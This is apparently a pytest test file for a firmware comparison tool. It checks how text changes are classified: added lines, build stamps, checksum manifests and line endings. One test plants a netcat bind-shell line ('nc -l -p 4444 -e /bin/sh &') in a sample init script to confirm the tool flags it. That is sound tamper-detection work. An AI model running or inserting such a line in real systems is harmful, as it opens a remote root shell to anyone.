"""Text analyser: line diffs, build stamps and digest manifests (benign only with claims)."""

from __future__ import annotations

import hashlib

import pytest

from netvet.firmware.blob import Blob
from netvet.firmware.claims import settle_claims
from netvet.firmware.compare import Pending
from netvet.firmware.content import text
from netvet.firmware.result import Node, Status
from tests.content.conftest import MakeBlob

INIT = """#!/bin/sh
### BEGIN INIT INFO
# Provides: oam-agent
### END INIT INFO
case "$1" in
start)
    /usr/sbin/oam-agent --config /etc/oam.conf
    ;;
stop)
    killall oam-agent
    ;;
esac
"""


def run(blob: MakeBlob, a: str | bytes, b: str | bytes, path: str = "etc/file") -> text.Explanation:
    ra = a.encode() if isinstance(a, str) else a
    rb = b.encode() if isinstance(b, str) else b
    return text.explain(path, blob(ra, path), blob(rb, path))


@pytest.mark.parametrize(
    ("head", "ok"),
    [
        (b"#!/bin/sh\necho hi\n", True),
        ("caf\u00e9 \u2713\n".encode(), True),
        ("caf\u00e9".encode("latin-1") + b"\n", True),
        (b"\x1b[1mbanner\x1b[0m\r\n\tx", True),
        ("\u2713".encode()[:2], True),  # a head that cuts a UTF-8 character short
        (b"", True),
        (b"ELF\x00\x01", False),
        (b"abc\x01def", False),
        (b"abc\x85def", False),  # a C1 control: neither UTF-8 nor printable Latin-1
    ],
)
def test_accepts(head: bytes, ok: bool) -> None:
    assert text.accepts(head) is ok


def test_init_script_with_an_added_line_is_unexplained(blob: MakeBlob) -> None:
    evil = INIT.replace("    ;;\nstop)", "    nc -l -p 4444 -e /bin/sh &\n    ;;\nstop)")
    e = run(blob, INIT, evil, "etc/init.d/S50oam")
    assert e.node is Node.DIFFERENT
    (f,) = e.findings
    assert (f.status, f.klass) == (Status.UNEXPLAINED, "text")
    (loc,) = f.locations
    assert loc.section == "lines" and loc.offset == 8 and loc.length == 1
    assert loc.detail == "+    nc -l -p 4444 -e /bin/sh &"
    assert "+    nc -l -p 4444 -e /bin/sh &" in f.diff
    assert any(line.startswith("@@ -5,6 +5,7 @@") for line in f.diff)
    assert not e.claims


def test_removed_line_is_located_in_the_reference(blob: MakeBlob) -> None:
    e = run(blob, INIT, INIT.replace("    killall oam-agent\n", ""))
    (loc,) = e.findings[0].locations
    assert (loc.offset, loc.length, loc.detail) == (10, 1, "-    killall oam-agent")


def test_changed_password_hash_is_unexplained(blob: MakeBlob) -> None:
    a = "root:$6$Q2xJ8Yb1$3f9c1e0a7b6d5c4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f:19000:0:99999:7:::\n"  # noqa: E501
    b = a.replace("3f9c1e0a7b6d5c4e", "0123456789abcdef")
    e = run(blob, a, b, "etc/shadow")
    assert e.node is Node.DIFFERENT
    assert [f.klass for f in e.findings] == ["text"]
    assert not e.claims


def test_version_stamp_is_build_time(blob: MakeBlob) -> None:
    a = "VERSION=4.2.1\nBUILD_DATE=Sat Nov 28 14:03:59 UTC 2026\nBUILD_TIMESTAMP=1764338639\n"
    b = "VERSION=4.2.1\nBUILD_DATE=Sun Nov 29 09:12:00 UTC 2026\nBUILD_TIMESTAMP=1764407520\n"
    e = run(blob, a, b, "etc/version")
    assert e.node is Node.EQUIVALENT
    (f,) = e.findings
    assert (f.status, f.klass) == (Status.BENIGN, "build-time")
    assert [(loc.offset, loc.length) for loc in f.locations] == [(2, 2)]
    assert not e.claims


def test_version_change_next_to_a_stamp_is_unexplained(blob: MakeBlob) -> None:
    a = "VERSION=4.2.1 built 2026-11-28T14:03:59Z\n"
    b = "VERSION=4.2.2 built 2026-11-29T10:00:00Z\n"
    e = run(blob, a, b)
    assert e.node is Node.DIFFERENT
    assert [f.klass for f in e.findings] == ["text"]


def _sums(*pairs: tuple[bytes, str]) -> str:
    return "".join(f"{hashlib.sha256(data).hexdigest()}  {name}\n" for data, name in pairs)


def test_sha256sum_manifest_is_a_derived_digest_with_claims(blob: MakeBlob) -> None:
    a = _sums((b"kernel v1", "boot/kernel"), (b"same", "etc/passwd"), (b"app v1", "bin/app"))
    b = _sums((b"kernel v2", "boot/kernel"), (b"same", "etc/passwd"), (b"app 2", "bin/app"))
    e = run(blob, a, b, "usr/share/SHA256SUMS")
    assert e.node is Node.EQUIVALENT
    (f,) = e.findings
    assert (f.status, f.klass) == (Status.BENIGN, "derived-digest")
    assert [(loc.offset, loc.length) for loc in f.locations] == [(1, 1), (3, 1)]
    sha = [hashlib.sha256(x).hexdigest() for x in (b"kernel v1", b"kernel v2", b"app v1", b"app 2")]
    assert [(c.algorithm, c.ref, c.dep) for c in e.claims] == [
        ("sha256", sha[0], sha[1]),  # the file name says which algorithm
        ("sha256", sha[2], sha[3]),
    ]


def test_bsd_style_line_names_its_algorithm(blob: MakeBlob) -> None:
    a = f"SHA256 (rootfs.img) = {hashlib.sha256(b'1').hexdigest()}\n"
    b = f"SHA256 (rootfs.img) = {hashlib.sha256(b'2').hexdigest()}\n"
    e = run(blob, a, b, "firmware.sig.txt")
    assert [c.algorithm for c in e.claims] == ["sha256"]
    a5 = f"{hashlib.md5(b'1').hexdigest()}  rootfs.img\n"
    b5 = f"{hashlib.md5(b'2').hexdigest()}  rootfs.img\n"
    assert [c.algorithm for c in run(blob, a5, b5, "md5sums").claims] == ["md5"]


def test_digest_and_stamp_on_one_line(blob: MakeBlob) -> None:
    a = f"image {'ab' * 32} built 2026-11-28 14:03:59\n"
    b = f"image {'cd' * 32} built 2026-11-29 08:00:00\n"
    e = run(blob, a, b)
    assert e.node is Node.EQUIVALENT
    assert sorted(f.klass for f in e.findings) == ["build-time", "derived-digest"]
    assert [(c.ref, c.dep) for c in e.claims] == [("ab" * 32, "cd" * 32)]


@pytest.mark.parametrize(
    ("a", "b"),
    [
        ("hash " + "ab" * 32 + "\n", "hash " + "cd" * 31 + "\n"),  # lengths differ
        ("hash " + "ab" * 30 + "\n", "hash " + "cd" * 30 + "\n"),  # 60 digits: no digest
        ("id=" + "ab" * 16 + "x\n", "id=" + "cd" * 16 + "x\n"),  # part of a longer word
    ],
)
def test_hex_that_is_not_a_digest_token_is_unexplained(blob: MakeBlob, a: str, b: str) -> None:
    e = run(blob, a, b)
    assert e.node is Node.DIFFERENT
    assert not e.claims


def test_claims_hold_only_for_equivalent_entries(blob: MakeBlob) -> None:
    a = _sums((b"app v1", "bin/app"))
    b = _sums((b"app v2", "bin/app"))
    e = run(blob, a, b, "SHA256SUMS")
    pending = [Pending(f, e.claims) for f in e.findings]
    app: tuple[Blob, Blob] = (blob(b"app v1"), blob(b"app v2"))
    assert [f.status for f in settle_claims(pending, [app])] == [Status.BENIGN]
    other: tuple[Blob, Blob] = (blob(b"app v1"), blob(b"app v3"))
    assert [f.status for f in settle_claims(pending, [other])] == [Status.UNEXPLAINED]


def test_line_endings_and_final_newline_are_changes(blob: MakeBlob) -> None:
    e = run(blob, "a\nb\n", "a\r\nb\n")
    assert e.node is Node.DIFFERENT
    assert "+a\\r" in e.findings[0].diff
    e = run(blob, "a\nb\n", "a\nb")
    assert e.node is Node.DIFFERENT
    assert e.findings[0].locations[0].detail == "+b  [no newline at end of file]"


def test_binary_after_the_head_falls_back_to_bytes(blob: MakeBlob) -> None:
    a = b"#!/bin/sh\n" * 500 + b"\x00payload"
    b = b"#!/bin/sh\n" * 500 + b"\x00payloaX"
    e = run(blob, a, b)
    assert e.node is Node.DIFFERENT
    assert e.findings[0].klass == "content"


def test_many_hunks_are_capped_and_said_so(blob: MakeBlob) -> None:
    a = "".join(f"line {i}\n" + "".join(f"keep {i}.{k}\n" for k in range(7)) for i in range(80))
    b = a.replace("line ", "LINE ")
    (f,) = run(blob, a, b).findings
    assert len(f.locations) == text.MAX_LOCATIONS
    assert "80 hunk(s) (first 50 shown)" in f.summary
    assert f.diff[-1].startswith("... (diff cut")


def test_latin1_text(blob: MakeBlob) -> None:
    a = "Gr\u00fc\u00dfe vom Ger\u00e4t\n".encode("latin-1")
    b = "Gr\u00fc\u00dfe vom Ger\u00e4T\n".encode("latin-1")
    (f,) = run(blob, a, b).findings
    assert "\n".join(f.diff).count("Ger\u00e4") == 2
    assert f.locations[0].detail == "+Gr\u00fc\u00dfe vom Ger\u00e4T"
